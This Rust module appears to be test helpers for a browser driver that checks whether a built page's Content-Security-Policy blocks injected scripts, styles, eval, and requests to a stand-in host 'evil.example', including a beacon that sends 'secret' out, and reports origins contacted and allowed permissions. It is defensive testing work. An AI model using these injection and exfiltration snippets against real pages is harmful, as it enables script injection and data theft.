//! What the policy of a page blocks.

use crate::frame::Frame;

/// What an attacker tries who can run a script or write into the page. Each of them answers whether it was blocked: with an error, or
/// with a violation of the directive.
const ATTEMPTS: &str = r##"
const attempts = {
  "script-src-elem": () => { document.body.append(element("script", { textContent: "window.taken = true" })); },
  "script-src-elem of another origin": () => { document.body.append(element("script", { src: "https://evil.example/a.js" })); },
  "script-src-attr": () => { document.body.setAttribute("onclick", "window.taken = true"); },
  // In a timer, and by the eval of the page: the driver's own scripts may use theirs.
  "script-src by eval": () => new Promise((resolve, reject) => setTimeout(() => {
    try { resolve(window.eval("window.taken = true")); } catch (error) { reject(error); }
  })),
  "style-src-elem": () => { document.head.append(element("style", { textContent: "body { color: red }" })); },
  "style-src-attr": () => { document.body.setAttribute("style", "color: red"); },
  "img-src": () => { document.body.append(element("img", { src: "https://evil.example/a.png" })); },
  "connect-src": () => fetch("https://evil.example/"),
  "connect-src by WebSocket": () => { new WebSocket("wss://evil.example/"); },
  "connect-src by beacon": () => { navigator.sendBeacon("https://evil.example/", "secret"); },
  "font-src": () => new FontFace("Evil", "url(https://evil.example/a.woff2)").load(),
  "media-src": () => { document.body.append(element("audio", { src: "https://evil.example/a.ogg", preload: "auto" })); },
  "object-src": () => { document.body.append(element("object", { data: "https://evil.example/" })); },
  "worker-src": () => { new Worker("data:text/javascript,"); },
  "form-action": () => { const form = element("form", { action: "https://evil.example/" }); document.body.append(form); form.submit(); },
  "base-uri": () => { document.head.append(element("base", { href: "https://evil.example/" })); },
  "trusted types: HTML": () => { document.createElement("div").innerHTML = "<b>"; },
  "trusted types: document": () => { document.write("<b>"); },
  "trusted types: policy": () => { trustedTypes.createPolicy("evil", {}); },
};
function element(name, properties) {
  return Object.assign(document.createElement(name), properties);
}
const limit = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 10000))]);
const unblocked = [];
for (const [name, attempt] of Object.entries(attempts)) {
  const blocked = new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      if (effectiveDirective === name.split(" ")[0]) resolve(true);
    });
  });
  const tried = (async () => attempt())().then(() => blocked, () => true);
  if ((await limit(tried)) !== true) unblocked.push(name);
}
if (window.taken) unblocked.push("a script ran");
return unblocked;
"##;

/// Tries everything that the policy of a built page must block, and returns what it did not block.
///
/// The page is of no use after it. What is blocked is in the console: the caller expects these errors.
pub async fn unblocked(page: &Frame<'_>) -> Vec<String> {
    let script = format!("return (async () => {{ {ATTEMPTS} }})();");
    let unblocked = page.run(&script, vec![]).await;
    let unblocked = unblocked.as_array().expect("a list of attempts");
    unblocked.iter().map(|name| name.as_str().unwrap_or_default().to_owned()).collect()
}

/// The origins from which the page has loaded something.
pub async fn contacted(page: &Frame<'_>) -> Vec<String> {
    let script =
        "return [...new Set(performance.getEntriesByType('resource').map(entry => new URL(entry.name).origin))];";
    let origins = page.run(script, vec![]).await;
    let origins = origins.as_array().expect("a list of origins");
    origins.iter().map(|origin| origin.as_str().unwrap_or_default().to_owned()).collect()
}

/// Those of these features of `Permissions-Policy` that the page may use.
pub async fn allowed<'a>(page: &Frame<'_>, features: &[&'a str]) -> Vec<&'a str> {
    let allowed = page.run("return document.featurePolicy.allowedFeatures();", vec![]).await;
    let allowed = allowed.as_array().expect("a list of features");
    features.iter().copied().filter(|feature| allowed.iter().any(|it| it == feature)).collect()
}
